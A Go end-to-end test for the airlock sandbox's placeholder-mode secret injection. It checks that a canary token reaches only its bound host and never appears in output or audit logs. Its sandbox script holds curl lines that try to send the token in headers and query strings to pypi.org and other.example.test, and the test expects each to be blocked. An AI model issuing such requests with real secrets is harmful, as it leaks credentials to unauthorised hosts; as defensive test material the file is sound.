package e2e

import (
	"crypto/rand"
	"encoding/hex"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/audit"
	"github.com/airlock-dev/airlock/secrets"
)

// TestRootSecretsPlaceholder: a canary secret bound to api.example.test in
// placeholder mode. The sandbox's environment holds only the placeholder; curl
// sending it reaches the upstream, which receives the real canary and echoes it
// back in a header and the body; the sandbox sees no form of the canary. The
// placeholder sent anywhere else is denied and flagged, and that host hears
// nothing. No form of the canary appears in the audit log or airlock's output.
func TestRootSecretsPlaceholder(t *testing.T) {
	e := newEnv(t, "")
	var rb [16]byte
	if _, err := rand.Read(rb[:]); err != nil {
		t.Fatal(err)
	}
	canary := "alkcanary-" + hex.EncodeToString(rb[:])
	secretsFile := filepath.Join(e.dir, "secrets.yaml")
	if err := os.WriteFile(secretsFile, []byte(`secrets:
  - id: api-token
    env: E2E_CANARY
bindings:
  - secret: api-token
    sandboxes: {labels: {e2e: secrets}}
    host: api.example.test
    template: "Bearer {{value}}"
    mode: placeholder
    placeholder_env: API_TOKEN
`), 0o600); err != nil {
		t.Fatal(err)
	}
	apiSeen := len(w.api.Seen())
	pypiBefore, otherBefore := snap(w.pypi), snap(w.other)
	res := e.sh([]string{"--id", sandboxID("secrets"), "--label", "e2e=secrets", "--secrets", secretsFile,
		"--allow", "api.example.test", "--allow", "other.example.test"}, `
env | sort
echo "placeholder=$API_TOKEN"
curl -sS --max-time 60 -D /tmp/headers -o /tmp/body -w 'api=%{http_code}\n' -H "Authorization: Bearer $API_TOKEN" https://api.example.test/v1/echo
cat /tmp/headers /tmp/body
curl -sS --max-time 60 -o /dev/null -w 'leak_registry=%{http_code}\n' -H "Authorization: Bearer $API_TOKEN" https://pypi.org/simple/
curl -sS --max-time 60 -o /dev/null -w 'leak_query=%{http_code}\n' "https://pypi.org/simple/?t=$API_TOKEN"
curl -sS --max-time 60 -o /dev/null -w 'leak_plain=%{http_code}\n' -H "X-Token: $API_TOKEN" http://other.example.test/
curl -sS --max-time 60 -o /dev/null -w 'leak_https_allowed=%{http_code}\n' -H "Authorization: Bearer $API_TOKEN" https://other.example.test/
true
`, "E2E_CANARY="+canary)
	wantCode(t, res, 0)
	m := kv(res.stdout)
	ph := m["placeholder"]
	if ph == "" || strings.Contains(ph, canary) {
		t.Fatalf("API_TOKEN in the sandbox: got %q, want a placeholder\n%s", ph, res)
	}
	wantKV(t, m, "api", "200", res)
	wantKV(t, m, "leak_registry", "403", res)
	wantKV(t, m, "leak_query", "403", res)
	wantKV(t, m, "leak_plain", "403", res)
	// Regression: over HTTPS to an --allow'ed host that nothing intercepted,
	// the placeholder went through the CONNECT tunnel and was answered 200.
	// A sandbox holding placeholders has every TLS tunnel intercepted.
	wantKV(t, m, "leak_https_allowed", "403", res)

	// The bound upstream got the real value, exactly once, in the bound header.
	got := seenSince(w.api, apiSeen)
	if len(got) != 1 {
		t.Fatalf("api.example.test served %d requests, want 1", len(got))
	}
	if a := got[0].Header.Get("Authorization"); a != "Bearer "+canary {
		t.Errorf("api.example.test got Authorization %q, want the real canary", a)
	}
	// The placeholder's other destinations heard nothing.
	if d := snap(w.pypi).sub(pypiBefore); d.requests != 0 {
		t.Errorf("pypi.org served %d requests carrying the placeholder, want 0", d.requests)
	}
	if d := snap(w.other).sub(otherBefore); d.requests != 0 || d.conns != 0 {
		t.Errorf("other.example.test: got %d connections, %d requests, want 0 and 0", d.conns, d.requests)
	}

	recs := e.records()
	inj := mustFind(t, recs, match{kind: audit.KindHTTP, decision: audit.DecisionAllow, host: "api.example.test", method: "GET"})
	if len(inj.Secrets) != 1 || inj.Secrets[0].ID != "api-token" || inj.Secrets[0].Fingerprint == "" {
		t.Errorf("injected request's audit secrets: got %+v, want one api-token with a fingerprint", inj.Secrets)
	}
	for _, host := range []string{"pypi.org", "other.example.test"} {
		for _, r := range find(recs, match{kind: audit.KindHTTP, decision: audit.DecisionDeny, host: host}) {
			if len(r.Flags) == 0 {
				t.Errorf("denied placeholder to %s %s: no flag in the audit record %+v", host, r.Path, r)
			}
		}
		if len(find(recs, match{kind: audit.KindHTTP, decision: audit.DecisionDeny, host: host})) == 0 {
			t.Errorf("no denied http record for %s\n%s", host, dump(recs))
		}
	}

	// No form of the canary anywhere the sandbox or an operator reads.
	auditBytes, err := os.ReadFile(e.audit)
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{
		"sandbox stdout (airlock's stdout)": res.stdout,
		"airlock stderr":                    res.stderr,
		"audit log":                         string(auditBytes),
	} {
		for _, form := range secrets.CanaryForms(canary) {
			if n := strings.Count(text, form); n > 0 {
				t.Errorf("%s holds the canary form %q %d times", name, form, n)
			}
		}
	}
	if !strings.Contains(res.stdout, "API_TOKEN="+ph) {
		t.Errorf("env does not show the placeholder\n%s", res)
	}
}
